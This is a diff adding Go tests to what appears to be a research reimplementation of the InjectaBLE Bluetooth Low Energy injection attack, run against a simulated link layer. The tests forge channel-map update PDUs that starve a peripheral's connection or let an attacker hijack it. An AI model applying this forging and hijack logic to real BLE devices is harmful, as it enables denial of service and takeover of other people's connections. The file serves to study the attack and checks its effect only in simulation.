@@ -1,0 +1,96 @@
+package injectable
+
+import (
+	"testing"
+
+	"injectable/internal/ble"
+	"injectable/internal/ble/pdu"
+	"injectable/internal/link"
+	"injectable/internal/sim"
+)
+
+// TestForgedChannelMapStarvation injects an LL_CHANNEL_MAP_IND (the other
+// instant-based update PDU of paper §III-B.7): the slave applies the
+// forged two-channel map at the instant while the master keeps hopping the
+// full map, so the two sides only meet when the master lands on one of the
+// two remaining channels (~2/37 of events) — starving the connection to a
+// trickle without transmitting another frame.
+func TestForgedChannelMapStarvation(t *testing.T) {
+	rig := newAttackRig(t, 81, 36)
+	rig.connectAndSync(t)
+
+	forgedMap := ble.ChannelMap(0b11) // slave will sit on channels 0 and 1
+	var rep *Report
+	err := rig.injector.InjectDynamic(func(st *ConnState) pdu.DataPDU {
+		return ForgeChannelMapUpdate(forgedMap, st.EventCount+10)
+	}, func(r Report) { rep = &r })
+	if err != nil {
+		t.Fatal(err)
+	}
+	rig.w.RunFor(20 * sim.Second)
+	if rep == nil || !rep.Success {
+		t.Fatalf("channel map injection failed: %+v", rep)
+	}
+
+	// Measure the slave's hit rate after the instant has long passed.
+	slaveConn := rig.bulb.Peripheral.Conn()
+	if slaveConn == nil {
+		return // the starvation already killed it — also a valid outcome
+	}
+	hits, misses := 0, 0
+	slaveConn.OnEvent = func(e link.EventInfo) {
+		if e.Missed {
+			misses++
+		} else {
+			hits++
+		}
+	}
+	rig.w.RunFor(20 * sim.Second)
+	total := hits + misses
+	if total < 50 {
+		return // connection died mid-measurement: starvation confirmed
+	}
+	rate := float64(hits) / float64(total)
+	if rate > 0.25 {
+		t.Fatalf("slave still hits %.0f%% of events — no starvation", rate*100)
+	}
+	t.Logf("post-attack slave hit rate: %.1f%% (%d/%d)", rate*100, hits, total)
+}
+
+// TestForgedChannelMapFollowedByAttacker shows the hijack variant: the
+// attacker knows the forged map and keeps following the slave after the
+// split (it becomes the only device on the slave's schedule).
+func TestForgedChannelMapFollowedByAttacker(t *testing.T) {
+	rig := newAttackRig(t, 82, 36)
+	rig.connectAndSync(t)
+
+	forgedMap := ble.AllChannels.Without(2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18)
+	var rep *Report
+	var forged pdu.ChannelMapInd
+	st := rig.sniffer.State()
+	err := rig.injector.InjectDynamic(func(s *ConnState) pdu.DataPDU {
+		forged = pdu.ChannelMapInd{ChannelMap: forgedMap, Instant: s.EventCount + 10}
+		return pdu.DataPDU{
+			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
+			Payload: pdu.MarshalControl(forged),
+		}
+	}, func(r Report) {
+		rep = &r
+		if r.Success {
+			// Mirror the forged update into the attacker's own state so
+			// the sniffer hops with the slave after the instant.
+			upd := forged
+			st.PendingChMap = &upd
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rig.w.RunFor(30 * sim.Second)
+	if rep == nil || !rep.Success {
+		t.Fatalf("injection failed: %+v", rep)
+	}
+	if st.Params.ChannelMap != forgedMap {
+		t.Fatal("attacker state did not apply the forged map")
+	}
+}
